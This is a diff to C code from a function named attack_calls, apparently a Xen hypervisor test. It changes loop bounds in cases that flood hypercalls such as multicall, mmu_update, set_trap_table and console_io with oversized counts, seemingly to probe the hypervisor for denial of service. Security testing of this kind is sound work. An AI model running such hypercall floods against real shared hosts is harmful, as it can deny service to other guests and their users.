@@ -75,11 +75,11 @@ void attack_calls(void) {
     print("BEGIN\n");
     switch (call) {
     case 0: /* multicall of xen_version */
-        for (int i = 0; i < 64; i++) ((struct multicall *)repeated)[i] = (struct multicall){HYPERVISOR_xen_version, 0, {0}};
+        for (int i = 0; i < REPEATED / 8; i++) ((struct multicall *)repeated)[i] = (struct multicall){HYPERVISOR_xen_version, 0, {0}};
         r = hypercall(HYPERVISOR_multicall, lists, 0x0fffffff, 0, 0);
         break;
     case 1: /* mmu_update: M2P of one frame */
-        for (int i = 0; i < 256; i++) ((struct update *)repeated)[i] = (struct update){mfn_of(pool[0]) << 12 | 1, 1};
+        for (int i = 0; i < REPEATED / 2; i++) ((struct update *)repeated)[i] = (struct update){mfn_of(pool[0]) << 12 | 1, 1};
         r = hypercall(HYPERVISOR_mmu_update, lists, 0x7fffffff, (u64)&done, DOMID_SELF);
         break;
     case 2: /* mmuext: flushes */
@@ -105,7 +105,7 @@ void attack_calls(void) {
         r = hypercall(HYPERVISOR_set_gdt, lists, 0xffffffff, 0, 0);
         break;
     case 13: /* trap table without end */
-        for (int i = 0; i < 256; i++) ((struct trap_info *)repeated)[i] = (struct trap_info){200, 0, KERNEL_CS, 0, 1};
+        for (int i = 0; i < REPEATED / 2; i++) ((struct trap_info *)repeated)[i] = (struct trap_info){200, 0, KERNEL_CS, 0, 1};
         r = hypercall(HYPERVISOR_set_trap_table, lists, 0, 0, 0);
         break;
     case 14: { /* frame lists of the host */
@@ -114,7 +114,7 @@ void attack_calls(void) {
         break;
     }
     case 15: { /* multicall of calls that are long themselves */
-        for (int i = 0; i < 64; i++)
+        for (int i = 0; i < REPEATED / 8; i++)
             ((struct multicall *)repeated)[i] = (struct multicall){HYPERVISOR_console_io, 0, {0, 0x7fffffff, lists}};
         r = hypercall(HYPERVISOR_multicall, lists, 0x0fffffff, 0, 0);
         break;
